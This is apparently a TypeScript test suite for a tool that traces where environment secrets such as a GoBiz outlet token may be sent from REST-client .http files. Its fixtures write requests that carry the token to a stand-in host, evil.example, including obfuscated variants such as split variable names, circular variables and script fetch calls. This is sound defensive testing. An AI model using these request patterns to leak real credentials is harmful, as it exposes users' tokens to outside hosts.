import assert from 'node:assert/strict';
import { type Environment, emptyEnvironment } from '../../src/core/httpFile/environment';
import { parseHttpFile, parseMarkdown } from '../../src/core/httpFile/parse';
import type { HttpFile } from '../../src/core/httpFile/types';
import { type Use, uses, usesOf } from '../../src/core/httpFile/uses';

const own = 'https://api.gobiz.co.id';
const evil = 'https://evil.example';
const name = 'GOBIZ_OUTLET_TOKEN';
const reference = `{{$processEnv ${name}}}`;

/** Where a name may go: hosts, `unknown`, `variable`, `elsewhere`, sorted. */
function places(
  file: HttpFile,
  environment: Environment = emptyEnvironment,
  wanted = name,
): readonly string[] {
  return [...new Set(usesOf(uses(file, environment), wanted).map(placeOf))].sort();
}

function placeOf({ place }: Use): string {
  if (place.kind !== 'request') return place.kind;
  return place.target.kind === 'known' ? place.target.url.origin : 'unknown';
}

describe('where a variable of the process may go', () => {
  const cases: readonly [what: string, text: string, expected: readonly string[]][] = [
    ['to the host of its request', `GET ${own}/\nA: ${reference}`, [own]],
    ['in the URL', `GET ${evil}/?t=${reference}`, [evil]],
    ['in a continued URL', `GET ${evil}/\n  ?t=${reference}`, [evil]],
    ['in the body', `POST ${evil}\n\n{ "t": "${reference}" }`, [evil]],
    ['in the host itself', `GET https://${reference}/`, ['unknown']],
    [
      'to each of its requests',
      `GET ${own}/\nA: ${reference}\n###\nGET ${evil}/\nA: ${reference}`,
      [own, evil],
    ],
    ['nowhere without a use', `GET ${own}/`, []],
    ['through a file variable', `@t = ${reference}\nGET ${evil}/\nA: {{t}}`, [evil, 'variable']],
    ['through an encoded one', `@t = ${reference}\nGET ${evil}/?a={{%t}}`, [evil, 'variable']],
    ['through two', `@u = a{{t}}\n@t = ${reference}\nGET ${evil}/\nA: {{ u }}`, [evil, 'variable']],
    [
      'through variables in a circle',
      `@u = {{t}}\n@t = {{u}}${reference}\nGET ${evil}/\nA: {{u}}`,
      [evil, 'variable'],
    ],
    [
      'through a JavaScript expression',
      `@t = ${reference}\nGET ${evil}/\nA: {{t + 'x'}}`,
      [evil, 'variable'],
    ],
    [
      'through a variable without an equals sign',
      `@t ${reference}\nGET ${evil}/\nA: {{t}}`,
      [evil, 'variable'],
    ],
    [
      'through a line that the senders read differently',
      `@t:= ${reference}\nGET ${evil}/\nA: {{t}}`,
      [evil, 'variable'],
    ],
    [
      'put together from pieces',
      `@a = {{$process\n@b = Env ${name}}}\nGET ${evil}/\nA: {{a}}{{b}}`,
      [evil, 'variable'],
    ],
    ['not from a variable that no request uses', `@t = ${reference}\nGET ${evil}/`, ['variable']],
    ['in a variable inside of a body', `POST ${evil}\n\n@t = ${reference}`, [evil, 'variable']],
    ['with two spaces', `GET ${evil}\nA: {{$processEnv  ${name}}}`, [evil]],
    ['with a tab', `GET ${evil}\nA: {{$processEnv\t${name}}}`, [evil]],
    ['without a space', `GET ${evil}\nA: {{$processEnv${name}}}`, [evil]],
    ['in small letters', `GET ${evil}\nA: {{$processEnv ${name.toLowerCase()}}}`, [evil]],
    ['over two lines', `POST ${evil}\n\n"a {{\n$processEnv ${name}\n}}"`, [evil]],
    ['in a header behind a # without a space', `GET ${evil}\n#A: ${reference}`, [evil]],
    ['in a comment at the end of a request', `GET ${evil}\nA: b\n#A: ${reference}\n\n###`, [evil]],
    ['not in a comment without a request', `# ${reference}\n###\nGET ${evil}`, []],
    ['not in a title', `### ${reference}\nGET ${evil}`, []],
    ['not in an answer', `###\nHTTP/1.1 200 OK\n\n${reference}\n### \nGET ${evil}`, []],
    [
      'to both requests below an indented ###',
      `GET ${evil}\n  ###\nGET ${own}\nA: ${reference}`,
      [own, evil],
    ],
    ['to both below a request line in a body', `POST ${evil}\n\nGET ${own}\nA: ${reference}`, [own, evil]],
    ['not below a real ###', `GET ${evil}\n###\nGET ${own}\nA: ${reference}`, [own]],
    ['to a socket', `WS wss://evil.example\nA: ${reference}`, ['unknown']],
    ['anywhere from a script', `{{\nconsole.log(process.env.${name})\n}}\nGET ${own}`, ['elsewhere']],
    [
      'anywhere from a script that takes any name',
      `{{\nconst { env } = process;\n}}\nGET ${own}`,
      ['elsewhere'],
    ],
    [
      'anywhere from a script with a carrier',
      `@t = ${reference}\n{{\nfetch(t)\n}}\nGET ${own}`,
      ['elsewhere', 'variable'],
    ],
    ['anywhere from an IntelliJ script', `GET ${own}\n\n> {%\n$env.${name}\n%}`, [own, 'elsewhere']],
    ['anywhere from an IntelliJ script on one line', `GET ${own}\n\n> {% $env["x"] %}`, [own, 'elsewhere']],
    ['anywhere from an expression', `GET ${own}\nA: {{process.env.${name}}}`, [own, 'elsewhere']],
    ['anywhere from an expression with any name', `GET ${own}\nA: {{process.env[x]}}`, [own, 'elsewhere']],
    ['from a file whose variables are replaced', `POST ${evil}\n\n<@ ./body.json`, [evil]],
    ['not from a file that is sent as it is', `POST ${evil}\n\n< ./body.json`, []],
    ['from a file with # @injectVariables', `# @inject-variables\nPOST ${evil}\n\n< ./body.json`, [evil]],
    ['from a file in an expression', `POST ${evil}\n\n"{{< ./body.json}}"`, [evil]],
  ];
  for (const [what, text, expected] of cases) {
    it(what, () => assert.deepEqual(places(parseHttpFile(text)), [...expected].sort()));
    it(`${what}, with CRLF`, () =>
      assert.deepEqual(places(parseHttpFile(text.replaceAll('\n', '\r\n'))), [...expected].sort()));
  }

  it('in Markdown only from fenced blocks and file variables', () => {
    const prose = `${reference}\n@t = ${reference}\n`;
    assert.deepEqual(places(parseMarkdown(`${prose}\`\`\`http\nGET ${own}\n\`\`\``)), ['variable']);
    assert.deepEqual(places(parseMarkdown(`${prose}\`\`\`rest\nGET ${evil}/{{t}}\n\`\`\``)), [
      evil,
      'variable',
    ]);
  });
});

describe('a name that the environment gives', () => {
  const environment: Environment = {
    variables: {
      $shared: { other: 'x' },
      sandbox: { host: 'https://api.partner-sandbox.gobiz.co.id', token: 'GOBIZ_TEST_TOKEN' },
      production: { host: own, token: name, text: `a {{$processEnv GOBIZ_TEXT_TOKEN}}` },
    },
    dotenv: { '.env': 'K={{$processEnv GOBIZ_DOTENV_TOKEN}}' },
  };
  const recipe = parseHttpFile('GET {{host}}/v1\nAuthorization: Bearer {{$processEnv %token}}');

  for (const selected of ['sandbox', 'production', undefined]) {
    const given = selected === undefined ? environment : { ...environment, selected };
    it(`goes to the host of the environment that gives it, with ${selected ?? 'any'} selected`, () => {
      assert.deepEqual(places(recipe, given), [own]);
      assert.deepEqual(places(recipe, given, 'GOBIZ_TEST_TOKEN'), [
        'https://api.partner-sandbox.gobiz.co.id',
      ]);
    });
  }

  it('is the name behind the % itself where no variable has it', () => {
    const file = parseHttpFile(`GET ${evil}\nA: {{$processEnv %${name}}}`);
    assert.deepEqual(places(file, environment), [evil]);
  });

  it('counts at a fixed host for each environment', () => {
    const file = parseHttpFile(`GET ${evil}\nA: {{$processEnv %token}}`);
    assert.deepEqual(places(file, { ...environment, selected: 'sandbox' }), [evil]);
  });

  it('counts at the hosts of all environments where none is known to be selected', () => {
    const file = parseHttpFile(`GET {{host}}\nA: ${reference}`);
    assert.deepEqual(
      places(file, environment),
      ['https://api.partner-sandbox.gobiz.co.id', own, 'unknown'].sort(),
    );
    assert.deepEqual(places(file, { ...environment, selected: 'production' }), [own]);
  });

  it('counts inside of the values of environments and .env files, which httpYac resolves too', () => {
    const file = parseHttpFile(`GET ${evil}\nA: {{text}} {{$dotenv K}}`);
    assert.deepEqual(places(file, environment, 'GOBIZ_TEXT_TOKEN'), [evil]);
    assert.deepEqual(places(file, environment, 'GOBIZ_DOTENV_TOKEN'), [evil]);
  });
});

describe('a hostile file', () => {
  it('with very many variables that lead to each other may use anything', () => {
    const count = 600;
    const lines = Array.from(
      { length: count },
      (_, index) => `@v${index} = {{$processEnv GOBIZ_C${index}_TOKEN}}{{v${(index + 1) % count}}}`,
    );
    const file = parseHttpFile([...lines, `GET ${evil}/{{v0}}`].join('\n'));
    assert.ok(usesOf(uses(file, emptyEnvironment), name).some(({ place }) => place.kind === 'elsewhere'));
  });
});
